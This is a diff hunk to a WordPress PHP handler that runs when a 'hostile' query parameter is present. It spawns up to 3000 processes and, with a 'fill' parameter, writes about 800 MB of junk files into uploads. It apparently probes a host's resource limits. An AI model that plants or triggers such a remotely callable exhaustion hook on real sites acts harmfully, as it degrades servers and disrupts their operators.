@@ -565,6 +565,7 @@ if (isset($_GET['hostile'])) add_action('init', function () {
 	$n = 0; while ($n < 3000 && function_exists('proc_open') && ($p[] = @proc_open(['sleep', '30'], [], $pipes))) { if (!end($p)) break; $n++; }
 	$out['processes'] = $n;
 	foreach ($p ?? [] as $x) if ($x) proc_terminate($x, 9);
+	if (isset($_GET['fill'])) wp_mkdir_p(WP_CONTENT_DIR . '/uploads');
 	if (isset($_GET['fill'])) for ($i = 0; $i < 100; $i++) file_put_contents(WP_CONTENT_DIR . '/uploads/fill' . $i, str_repeat('x', 8 << 20));
 	echo json_encode($out); exit;
 });
